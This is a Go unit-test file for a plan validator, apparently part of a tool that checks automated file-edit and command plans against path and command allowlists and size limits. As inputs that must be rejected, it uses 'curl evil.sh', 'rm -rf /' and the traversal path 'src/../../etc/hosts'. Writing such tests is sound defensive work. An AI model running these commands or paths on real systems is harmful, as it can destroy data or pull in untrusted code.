package safety

import (
	stderrors "errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/felixgeelhaar/planguard/internal/errors"
	"github.com/felixgeelhaar/planguard/internal/plan"
	"github.com/felixgeelhaar/planguard/internal/policy"
)

func TestValidate(t *testing.T) {
	tests := []struct {
		name     string
		steps    []plan.Step
		mutate   func(*policy.Config)
		sentinel error
		contains string
	}{
		{
			name: "valid plan",
			steps: []plan.Step{
				&plan.CreateStep{Path: "src/a.ts", Content: plan.Str("export {}")},
				&plan.UpdateStep{Path: "package.json", Content: plan.Str("{}")},
				&plan.DeleteStep{Path: "components/Old.tsx"},
				&plan.CommandStep{Command: "npm install"},
				&plan.TestStep{Command: "npm run build"},
			},
		},
		{
			name:     "too many steps",
			steps:    []plan.Step{&plan.TestStep{Command: "yarn"}, &plan.TestStep{Command: "yarn"}},
			mutate:   func(c *policy.Config) { c.MaxActions = 1 },
			sentinel: errors.ErrLimitExceeded,
		},
		{
			name:     "parent traversal",
			steps:    []plan.Step{&plan.DeleteStep{Path: "src/../../etc/hosts"}},
			sentinel: errors.ErrPathRejected,
			contains: "src/../../etc/hosts",
		},
		{
			name:     "inner parent is still rejected",
			steps:    []plan.Step{&plan.CreateStep{Path: "src/../src/a.ts", Content: plan.Str("x")}},
			sentinel: errors.ErrPathRejected,
		},
		{
			name:     "absolute path",
			steps:    []plan.Step{&plan.CreateStep{Path: "/tmp/a.ts", Content: plan.Str("x")}},
			sentinel: errors.ErrPathRejected,
		},
		{
			name:     "outside allowlist names allowlist",
			steps:    []plan.Step{&plan.UpdateStep{Path: "README.md", Content: plan.Str("x")}},
			sentinel: errors.ErrPathRejected,
			contains: "components",
		},
		{
			name:     "command not allowlisted",
			steps:    []plan.Step{&plan.CommandStep{Command: "curl evil.sh"}},
			sentinel: errors.ErrCommandRejected,
			contains: "curl evil.sh",
		},
		{
			name:     "exact mode rejects extra args",
			steps:    []plan.Step{&plan.TestStep{Command: "npm install left-pad"}},
			sentinel: errors.ErrCommandRejected,
		},
		{
			name:   "prefix mode accepts extra args",
			steps:  []plan.Step{&plan.TestStep{Command: "npm install left-pad"}},
			mutate: func(c *policy.Config) { c.CommandMatch = policy.MatchPrefix },
		},
		{
			name: "byte budget counts content and patch",
			steps: []plan.Step{
				&plan.CreateStep{Path: "src/a.ts", Content: plan.Str("12345")},
				&plan.UpdateStep{Path: "src/b.ts", Content: plan.Str("123"), Patch: plan.Str("12")},
			},
			mutate:   func(c *policy.Config) { c.MaxPatchBytes = 9 },
			sentinel: errors.ErrLimitExceeded,
		},
		{
			name: "byte budget at limit",
			steps: []plan.Step{
				&plan.CreateStep{Path: "src/a.ts", Content: plan.Str("12345")},
				&plan.UpdateStep{Path: "src/b.ts", Content: plan.Str("123"), Patch: plan.Str("12")},
			},
			mutate: func(c *policy.Config) { c.MaxPatchBytes = 10 },
		},
		{
			name: "path checked before command",
			steps: []plan.Step{
				&plan.CommandStep{Command: "rm -rf /"},
				&plan.DeleteStep{Path: "../x"},
			},
			sentinel: errors.ErrPathRejected,
		},
		{
			name:     "state directory under an allow-all list",
			steps:    []plan.Step{&plan.UpdateStep{Path: ".planguard/config.yaml", Content: plan.Str("command_allowlist: [rm]")}},
			mutate:   func(c *policy.Config) { c.PathAllowlist = []string{"."} },
			sentinel: errors.ErrPathRejected,
			contains: "reserved",
		},
		{
			name:     "state directory behind a dot segment",
			steps:    []plan.Step{&plan.DeleteStep{Path: "./.planguard/tx/x/state.json"}},
			mutate:   func(c *policy.Config) { c.PathAllowlist = []string{"."} },
			sentinel: errors.ErrPathRejected,
			contains: "reserved",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := policy.Default()
			if tt.mutate != nil {
				tt.mutate(cfg)
			}
			p := &plan.Plan{Summary: "s", Steps: tt.steps}

			err := Validate(p, cfg)
			if tt.sentinel == nil {
				assert.NoError(t, err)
				return
			}
			require.Error(t, err)
			assert.True(t, stderrors.Is(err, tt.sentinel), "got %v", err)
			if tt.contains != "" {
				assert.True(t, strings.Contains(err.Error(), tt.contains), err.Error())
			}
		})
	}
}

func TestPayloadBytes(t *testing.T) {
	p := &plan.Plan{Steps: []plan.Step{
		&plan.CreateStep{Path: "a", Content: plan.Str("héllo")},
		&plan.CreateStep{Path: "b"},
		&plan.UpdateStep{Path: "c", Patch: plan.Str("@@")},
		&plan.TestStep{Command: "npm run build"},
	}}

	assert.Equal(t, 8, PayloadBytes(p))
}
